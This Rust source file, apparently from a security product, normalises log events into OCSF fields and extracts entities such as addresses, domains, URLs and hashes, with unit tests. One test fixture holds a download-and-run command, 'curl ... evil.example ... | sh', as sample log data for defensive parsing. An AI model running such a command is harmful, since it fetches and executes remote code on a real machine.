//! From a source's own names to OCSF's typed facts and to entities.

use std::{borrow::Cow, collections::BTreeMap, net::IpAddr};

use shieldops_model::{Entity, EntityKind, Http, Ocsf, Process};

use super::{
    audit,
    class::{Class, Kind},
    flat::{Flat, json_text, members},
    slots::{Slot, slot},
};

/// Nested objects are looked into this far; the names we know lie no deeper.
const MAX_DEPTH: usize = 5;
/// The longest text kept as a message.
const MAX_MESSAGE: usize = 4_096;

/// The best value found for each slot.
#[derive(Debug, Default)]
pub struct Facts<'a> {
    found: Vec<(Slot, u8, Cow<'a, str>)>,
}

impl<'a> Facts<'a> {
    /// Reads every known name of an event; nested members by their dotted path.
    pub fn of(flat: &'a Flat<'_>) -> Self {
        let mut facts = Self::default();
        for (name, field) in flat.iter() {
            match field {
                super::flat::Field::Json(raw) => facts.visit(name, raw, 0),
                field => {
                    if let (Some((slot, rank)), Some(text)) = (slot(name), field.as_text()) {
                        facts.offer(slot, rank, text);
                    }
                }
            }
        }
        facts
    }

    /// Reads names that hold a fact only in one format, the first of a slot before later ones; the known names go before.
    #[must_use]
    pub fn with(mut self, flat: &'a Flat<'_>, names: &[(&str, Slot)]) -> Self {
        for ((name, slot), rank) in names.iter().zip(100..) {
            if let Some(text) = flat.get(name).and_then(super::flat::Field::as_text) {
                self.offer(*slot, rank, text);
            }
        }
        self
    }

    /// Reads the members of a JSON object.
    pub fn of_json(raw: &'a str) -> Self {
        let mut facts = Self::default();
        for (name, value) in members(raw).unwrap_or_default() {
            facts.visit(&name, value, 0);
        }
        facts
    }

    fn visit(&mut self, path: &str, raw: &'a str, depth: usize) {
        if raw.starts_with('{') {
            if depth < MAX_DEPTH {
                for (name, value) in members(raw).unwrap_or_default() {
                    self.visit(&format!("{path}.{name}"), value, depth.saturating_add(1));
                }
            }
            return;
        }
        let Some((slot, rank)) = slot(path) else { return };
        let first = || serde_json::from_str::<Vec<String>>(raw).ok()?.into_iter().next().map(Cow::Owned);
        if let Some(text) = if raw.starts_with('[') { first() } else { json_text(raw) } {
            self.offer(slot, rank, text);
        }
    }

    fn offer(&mut self, slot: Slot, rank: u8, text: Cow<'a, str>) {
        if absent(&text) {
            return;
        }
        match self.found.iter_mut().find(|(known, ..)| *known == slot) {
            Some(known) if known.1 <= rank => {}
            Some(known) => *known = (slot, rank, text),
            None => self.found.push((slot, rank, text)),
        }
    }

    pub fn get(&self, slot: Slot) -> Option<&str> {
        self.found.iter().find(|(known, ..)| *known == slot).map(|(_, _, text)| text.as_ref())
    }

    fn owned(&self, slot: Slot) -> Option<String> {
        self.get(slot).map(str::to_owned)
    }

    /// The class that the facts themselves suggest.
    pub fn kind(&self) -> Kind {
        let has = |slot| self.get(slot).is_some();
        if has(Slot::Method) || (has(Slot::HttpStatus) && has(Slot::Target)) {
            (Class::Http, "Request")
        } else if has(Slot::Image) && has(Slot::CommandLine) {
            (Class::Process, "Launch")
        } else if has(Slot::SrcIp) && has(Slot::DstIp) {
            (Class::Network, "Traffic")
        } else {
            (Class::Base, "Other")
        }
    }

    /// The typed facts of an event of this class.
    pub fn project(&self, (class, activity): Kind) -> Ocsf {
        let (actor_user, user) = self.users(class);
        Ocsf {
            class_uid: class.uid(),
            class_name: class.name().to_owned(),
            activity: activity.to_owned(),
            status: self.get(Slot::Outcome).and_then(status),
            message: self.get(Slot::Message).map(|text| text.chars().take(MAX_MESSAGE).collect()),
            device: self.get(Slot::Device).and_then(host),
            actor_user,
            user,
            src_ip: self.get(Slot::SrcIp).and_then(address),
            src_port: self.get(Slot::SrcPort).and_then(|port| port.parse().ok()),
            dst_ip: self.get(Slot::DstIp).and_then(address),
            dst_port: self.get(Slot::DstPort).and_then(|port| port.parse().ok()),
            dst_domain: self.get(Slot::DstDomain).and_then(domain),
            process: self.process(Slot::Pid, Slot::Image, Slot::CommandLine),
            parent: self.process(Slot::ParentPid, Slot::ParentImage, Slot::ParentCommandLine),
            file: self.owned(Slot::File),
            http: self.http(class),
            session: self.owned(Slot::Session).filter(|session| !audit::unset(session)),
            hashes: self.hashes(),
        }
    }

    /// Who acted and who was acted upon.
    fn users(&self, class: Class) -> (Option<String>, Option<String>) {
        let named = |slot| self.get(slot).filter(|user| !unnamed(user)).map(str::to_owned);
        let (actor, user, target) = (named(Slot::ActorUser), named(Slot::User), named(Slot::TargetUser));
        let upon = matches!(
            class,
            Class::Authentication | Class::AuthorizeSession | Class::AccountChange | Class::GroupManagement
        );
        match (actor, user, target) {
            (actor, user, Some(target)) => (actor.or(user), Some(target)),
            (actor, user, None) if upon => (actor, user),
            (actor, user, None) => (user.or(actor), None),
        }
    }

    fn process(&self, pid: Slot, image: Slot, line: Slot) -> Option<Process> {
        let process =
            Process { pid: self.get(pid).and_then(number), image: self.owned(image), command_line: self.owned(line) };
        (process != Process::default()).then_some(process)
    }

    fn http(&self, class: Class) -> Option<Http> {
        if class != Class::Http {
            let url = self.owned(Slot::Url).filter(|url| url.contains("://"))?;
            return Some(Http { target: Some(url), ..Http::default() });
        }
        let target = self.owned(Slot::Target).or_else(|| self.owned(Slot::Url));
        let http = Http {
            method: self.owned(Slot::Method),
            target,
            status: self.get(Slot::HttpStatus).and_then(|status| status.parse().ok()),
            user_agent: self.owned(Slot::UserAgent),
        };
        (http != Http::default()).then_some(http)
    }

    /// `SHA1=..,MD5=..` of Sysmon, and fields of their own.
    fn hashes(&self) -> BTreeMap<String, String> {
        let mut hashes = BTreeMap::new();
        for (name, value) in self.get(Slot::Hashes).unwrap_or("").split(',').filter_map(|pair| pair.split_once('=')) {
            let name = name.trim().to_ascii_lowercase();
            if matches!(name.as_str(), "md5" | "sha1" | "sha256") && is_hash(value) {
                hashes.insert(name, value.to_ascii_lowercase());
            }
        }
        for (slot, name) in [(Slot::Md5, "md5"), (Slot::Sha1, "sha1"), (Slot::Sha256, "sha256")] {
            if let Some(value) = self.get(slot).filter(|value| is_hash(value)) {
                hashes.entry(name.to_owned()).or_insert_with(|| value.to_ascii_lowercase());
            }
        }
        hashes
    }
}

/// The entities of an event, sorted, without duplicates.
pub fn entities(ocsf: &Ocsf) -> Vec<Entity> {
    let mut out = Vec::with_capacity(8);
    let mut put = |kind: EntityKind, value: &Option<String>| {
        if let Some(value) = value {
            out.push(Entity::new(kind, value));
        }
    };
    put(EntityKind::Ip, &ocsf.src_ip);
    put(EntityKind::Ip, &ocsf.dst_ip);
    put(EntityKind::Host, &ocsf.device);
    put(EntityKind::User, &ocsf.actor_user);
    put(EntityKind::User, &ocsf.user);
    put(EntityKind::File, &ocsf.file);
    put(EntityKind::Domain, &ocsf.dst_domain);
    if let Some(process) = &ocsf.process {
        let path = process.image.clone().filter(|image| image.contains(['/', '\\']));
        put(EntityKind::Process, &path);
        urls(process.command_line.as_deref().unwrap_or(""), &mut out);
    }
    if let Some(http) = &ocsf.http {
        urls(http.target.as_deref().unwrap_or(""), &mut out);
    }
    out.extend(ocsf.hashes.values().map(|hash| Entity::new(EntityKind::Hash, hash)));
    out.retain(|entity| !entity.value.is_empty() && entity.value.len() <= 1_024);
    out.sort();
    out.dedup();
    out
}

/// At most this many addresses are taken from one command line.
const MAX_URLS: usize = 16;

/// The web addresses in a text, and the hosts they name.
fn urls(text: &str, out: &mut Vec<Entity>) {
    let starts = text.match_indices("://").take(MAX_URLS);
    for (at, _) in starts {
        let Some((before, after)) = text.split_at_checked(at) else { continue };
        let scheme = ["https", "http", "ftp"].into_iter().find(|scheme| before.ends_with(scheme));
        let (Some(scheme), Some(rest)) = (scheme, after.get(3..)) else { continue };
        let end = rest.find(|c: char| c.is_whitespace() || "\"'`|;<>()\\".contains(c)).unwrap_or(rest.len());
        let Some(rest) = rest.get(..end).filter(|rest| !rest.is_empty()) else { continue };
        out.push(Entity::new(EntityKind::Url, format!("{scheme}://{rest}")));
        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
        let name = authority.rsplit('@').next().unwrap_or(authority);
        match (address(name), domain(name)) {
            (Some(address), _) => out.push(Entity::new(EntityKind::Ip, address)),
            (None, Some(domain)) => out.push(Entity::new(EntityKind::Domain, domain)),
            (None, None) => {}
        }
    }
}

/// An address in its canonical form, without port, brackets or zone; mapped IPv4 addresses are unmapped.
pub fn address(text: &str) -> Option<String> {
    let text = text.trim();
    let bare = match text.strip_prefix('[') {
        Some(rest) => rest.split_once(']')?.0,
        None if text.matches(':').count() == 1 => text.split_once(':')?.0,
        None => text,
    };
    let bare = bare.split_once('%').map_or(bare, |(address, _)| address);
    bare.parse::<IpAddr>().ok().map(|address| address.to_canonical().to_string())
}

/// A host name in lower case; none for an address.
fn host(text: &str) -> Option<String> {
    let name = text.trim().trim_end_matches('.');
    (!name.is_empty() && name.len() <= 253).then(|| name.to_lowercase())
}

/// A domain name in lower case, without port; an address is none.
fn domain(text: &str) -> Option<String> {
    let name = text.trim().split_once(':').map_or(text.trim(), |(name, _)| name);
    if address(text).is_some() || !name.contains('.') || name.contains(['/', ' ']) {
        return None;
    }
    host(name)
}

fn absent(text: &str) -> bool {
    matches!(text.trim(), "" | "-" | "?" | "(null)" | "(none)" | "(unknown)" | "N/A" | "null")
}

/// Not the name of anybody: an unset audit uid or a placeholder.
fn unnamed(user: &str) -> bool {
    audit::unset(user) || absent(user)
}

fn status(word: &str) -> Option<String> {
    let status = match word.to_ascii_lowercase().as_str() {
        "success" | "yes" | "true" | "succeeded" | "ok" => "success",
        "failure" | "no" | "false" | "failed" | "denied" => "failure",
        _ => return None,
    };
    Some(status.to_owned())
}

/// A number, decimal or `0x` hexadecimal as the Windows log has it.
fn number(text: &str) -> Option<u64> {
    match text.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16).ok(),
        None => text.parse().ok(),
    }
}

fn is_hash(text: &str) -> bool {
    matches!(text.len(), 32 | 40 | 64) && text.bytes().all(|byte| byte.is_ascii_hexdigit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_have_one_spelling() {
        let cases = [
            ("::ffff:203.0.113.9", "203.0.113.9"),
            ("2001:DB8:0:0::1", "2001:db8::1"),
            ("203.0.113.9:443", "203.0.113.9"),
            ("[fe80::1%eth0]:22", "fe80::1"),
        ];
        for (text, wanted) in cases {
            assert_eq!(address(text).as_deref(), Some(wanted), "{text}");
        }
        for text in ["", "-", "localhost", "1.2.3", "LOCAL"] {
            assert_eq!(address(text), None, "{text}");
        }
    }

    #[test]
    fn nested_names_are_found_by_their_path_and_placeholders_are_nobody() {
        let raw = r#"{"source":{"ip":"::ffff:203.0.113.9","port":5},"user":{"name":"-"},"host":{"name":"WEB1."},"process":{"executable":"/usr/bin/curl","command_line":"curl http://u@evil.example:8080/x.sh | sh"}}"#;
        let facts = Facts::of_json(raw);
        let ocsf = facts.project(facts.kind());
        let shown: Vec<String> = entities(&ocsf).iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            [
                "ip:203.0.113.9",
                "host:web1",
                "process:/usr/bin/curl",
                "domain:evil.example",
                "url:http://u@evil.example:8080/x.sh"
            ]
        );
    }

    #[test]
    fn hashes_are_taken_apart() {
        let facts = Facts::of_json(
            r#"{"Hashes":"MD5=42893ADBC36605EC79B5BD610759947E,IMPHASH=40BEC1A4A3BCB7D3089B5E1532386613"}"#,
        );
        assert_eq!(
            facts.project(facts.kind()).hashes.into_iter().collect::<Vec<_>>(),
            [("md5".to_owned(), "42893adbc36605ec79b5bd610759947e".to_owned())]
        );
    }
}
